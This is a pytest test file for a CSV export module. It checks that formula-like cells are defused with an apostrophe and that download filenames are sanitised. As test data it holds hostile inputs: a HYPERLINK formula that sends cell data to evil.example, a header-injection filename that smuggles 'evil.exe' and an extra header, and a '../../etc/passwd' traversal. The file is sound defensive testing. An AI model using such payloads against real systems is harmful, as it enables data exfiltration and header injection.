"""The one CSV writer: every cell a spreadsheet would run as a formula is defused, whatever
its column, and the download has a safe name and the CSV type."""

from __future__ import annotations

import csv
import io

import pytest

from liaison.csv_export import csv_response, csv_text, safe_cell, safe_filename

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)",
           "\t=1", "\r=1")  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(("value", "cell"), [("plain", "plain"), (None, ""), (42, "42"),
                                             ("a=b", "a=b"), ("'=x", "'=x")])  # fmt: skip
def test_other_cells_are_written_as_they_are(value, cell):
    assert safe_cell(value) == cell


def test_every_cell_of_every_row_is_defused_headers_and_numbers_included():
    text = csv_text([["=header", "key"], ["-1", -1, "@x"], [], ["\r\n=y", "ok"]])

    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=header", "key"], ["'-1", "'-1", "'@x"], [], ["'\r\n=y", "ok"]]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("survey-3-responses.csv", "survey-3-responses.csv"),
        ('a"; filename=evil.exe\r\nX-Bad: 1', "a-filename-evil.exe-X-Bad-1.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("", "export.csv"),
    ],
)
def test_the_filename_cannot_break_out_of_its_header(name, safe):
    assert safe_filename(name) == safe


def test_the_response_is_a_csv_download(app):
    with app.test_request_context():
        response = csv_response([["=1"]], "concerns-2026-03.csv")

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="concerns-2026-03.csv"'
    assert response.get_data(as_text=True) == "'=1\r\n"
